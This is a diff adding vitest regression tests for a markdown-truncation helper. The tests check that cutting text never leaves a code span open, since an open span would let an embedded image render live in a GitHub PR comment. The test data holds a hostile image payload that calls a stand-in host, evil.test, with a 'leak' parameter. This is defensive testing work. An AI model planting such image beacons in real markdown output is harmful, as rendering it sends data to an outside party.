@@ -1,0 +1,52 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { fitComment } from '../../src/action/live-comment.ts';
+import { cutMarkdown } from '../../src/report/cut-text.ts';
+import { inlineCode } from '../../src/core/code-fence.ts';
+import { markdownTree, nodesOf } from '../../src/security/markdown-tree.ts';
+
+/** The images and links GitHub would render live in `markdown`. */
+function live(markdown: string): string[] {
+  return [...nodesOf(markdownTree(markdown, 'github').tree)].flatMap((node) => (node.type === 'image' || node.type === 'link' ? [node.url] : []));
+}
+
+const HOSTILE = '![x](https://evil.test/p.png?leak=1)';
+
+describe('cutMarkdown', () => {
+  // The rejected-plan report quotes a model's keys in code spans: cut inside one, its backtick was
+  // left open, and the image after it rendered in the PR comment and the check run.
+  it('never leaves a code span open: text the renderers escaped stays text at any cut', () => {
+    const lines = Array.from({ length: 12 }, (_, i) => `- ${inlineCode(`steps[${i}]["${HOSTILE}${' pad'.repeat(30)}"]`)}: not a field of a step`);
+    const markdown = `## Rejected\n\n${lines.join('\n')}\n`;
+    expect(live(markdown)).toEqual([]);
+    for (let max = 20; max <= markdown.length + 2; max += 13) {
+      const cut = cutMarkdown(markdown, max);
+      expect(cut.length).toBeLessThanOrEqual(max);
+      expect(live(cut), `cut at ${max}`).toEqual([]);
+    }
+    // The plain cut left it open.
+    expect(lines.some((_, i) => live(markdown.slice(0, markdown.indexOf('evil.test', markdown.indexOf(`steps[${i}]`)) + 30)).length > 0)).toBe(true);
+  });
+
+  it('cuts at the end of a whole line and marks the cut; text within the limit is unchanged', () => {
+    expect(cutMarkdown('one\ntwo\nthree', 100)).toBe('one\ntwo\nthree');
+    expect(cutMarkdown('one\ntwo\nthree', 10)).toBe('one\ntwo\n…');
+    expect(cutMarkdown('a single line far too long', 10)).toBe('…');
+    fc.assert(
+      fc.property(fc.array(fc.string({ maxLength: 30 }), { maxLength: 20 }), fc.integer({ min: 1, max: 400 }), (parts, max) => {
+        const text = parts.join('\n');
+        const cut = cutMarkdown(text, max);
+        return cut.length <= max && (cut === text || cut === '…' || (cut.endsWith('\n…') && text.startsWith(`${cut.slice(0, -2)}\n`)));
+      }),
+    );
+  });
+
+  it('is the last resort of a comment that will not fit', () => {
+    // A body that stays too long however small the budget: each line a code span with the image, then padding.
+    const body = () => `<!-- plan-runner: plan.yml -->\n${Array.from({ length: 400 }, (_, i) => `- ${inlineCode(`${i} ${HOSTILE}${' pad'.repeat(60)}`)}`).join('\n')}`;
+    expect(live(body().slice(0, 65_535))).not.toEqual([]); // the plain cut at the limit would render it
+    const fitted = fitComment(body, 65_000);
+    expect(fitted.length).toBeLessThanOrEqual(65_536);
+    expect(live(fitted)).toEqual([]);
+  });
+});
